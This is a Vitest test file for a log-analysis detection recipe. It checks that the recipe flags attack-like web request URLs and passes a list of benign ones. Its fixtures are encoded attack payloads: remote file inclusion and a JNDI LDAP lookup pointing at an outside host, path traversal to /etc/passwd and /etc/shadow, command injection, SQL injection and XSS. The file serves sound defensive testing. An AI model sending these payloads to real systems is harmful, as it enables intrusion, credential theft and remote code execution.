import { beforeAll, describe, expect, it } from 'vitest';
import { recipeText } from '#datasets/recipes/index.ts';
import { literal } from '#engine/sql/sql.ts';
import { schemaStatements } from '#engine/store/schema.ts';
import { readRecipe } from '#recipe/read-recipe.ts';
import { policyEngines } from './support/policy-answers.ts';

const attacks = [
	'/index.php?page=http://192.0.2.9/c.txt',
	'/index.php?page=%68ttp://192.0.2.9/c.txt',
	'/index.php?page=%2568%2574tp%253a//192.0.2.9/c.txt',
	'/index.php?page=HtTpS%3A%2F%2F192.0.2.9/c',
	'/index.php?page=php://input',
	'/index.php?page=php%3A%2F%2Ffilter/convert.base64-encode/resource=x',
	'/index.php?page=data:text/plain;base64,PD9waHA',
	'/index.php?page=expect%3a//id',
	'/index.php?page=..%2f..%2fx',
	'/%2e%2e/%2e%2e/x',
	'/%252e%252e%252fx',
	'/%25252e%25252e%25252fx',
	'/%2525252525252e%2525252525252e/x',
	'/scripts/..%c0%af../winnt/system32',
	'/scripts/..%255c../winnt',
	'/%u002e%u002e/x',
	'/..\\..\\x',
	'/a?f=/%65tc/passwd',
	'/a?f=/etc/shadow%00.png',
	'/a.php?%63md=id',
	'/a?host=192.0.2.1;cat%20/x',
	'/a?host=192.0.2.1%7Cid',
	'/a?x=%24%7Bjndi:ldap://192.0.2.9/a%7D',
	'/a?id=1%20UNION%20SELECT%201',
	'/a?id=1+union+all+select+1',
	'/a?id=1/**/union/**/select/**/1',
	'/a?id=1%2bUnIoN%2f%2a%2a%2fsElEcT',
	'/a?q=%3Cscript%3Ealert(1)',
	'/a?q=%253Csvg%2520onload=x'
];
const benign = [
	'/',
	'/index.html',
	'/search?q=100%25',
	'/search?q=100%2525',
	'/search?q=caf%C3%A9+au+lait',
	'/search?q=%B1%B1%BE%A9&l=%C0%AF',
	'/search?q=c%2B%2B',
	'/a?next=%2Fhome%2Fuser',
	'/a?t=12%3A30',
	'/a..b/c...d/',
	'/v1.2..3/notes',
	'/news/credit-union-selects-a-board',
	'/a?name=O%27Brien%20%26%20Sons',
	'/a?q=data+protection+file+formats',
	'/a?sort=date;order=desc',
	'/a?email=a%2Bb%40example.org',
	'/download/report%20(final).pdf',
	'/a?json=%7B%22a%22%3A1%7D',
	'/a?q=%3C3+you',
	'/%zz?a=%'
];

const cell = readRecipe(recipeText('block-listed-source')).analysis.cells.find(
	({ spec }) => spec.id === 'requests_like_attacks'
)!;

describe.each(policyEngines)('of requests, the shipped recipe in $name', ({ open }) => {
	let taken: unknown[];
	beforeAll(async () => {
		const { query, close } = await open();
		for (const statement of schemaStatements()) await query(statement);
		const rows = [...attacks, ...benign].map((url) => `(${literal(url)})`).join();
		await query(`INSERT INTO web BY NAME SELECT url, 404 AS status, '192.0.2.1' AS dst_ip,
			TIMESTAMP '2007-01-15 03:17:36' AS ts FROM (VALUES ${rows}) AS t(url)`);
		await query(`SET VARIABLE "window" = INTERVAL 1 HOUR`);
		const found = await query(`SELECT found.url FROM (SELECT '192.0.2.1' AS dst_ip,
			TIMESTAMP '2007-01-15 03:17:36' AS ts) AS alert CROSS JOIN LATERAL (${cell.sql}) AS found`);
		taken = found.rows.map(([url]) => url);
		await close();
	}, 60_000);

	it.each(attacks)('takes for an attack, however it is encoded: %s', (url) => {
		expect(taken).toContain(url);
	});
	it.each(benign)('takes for none: %s', (url) => {
		expect(taken).not.toContain(url);
	});
});
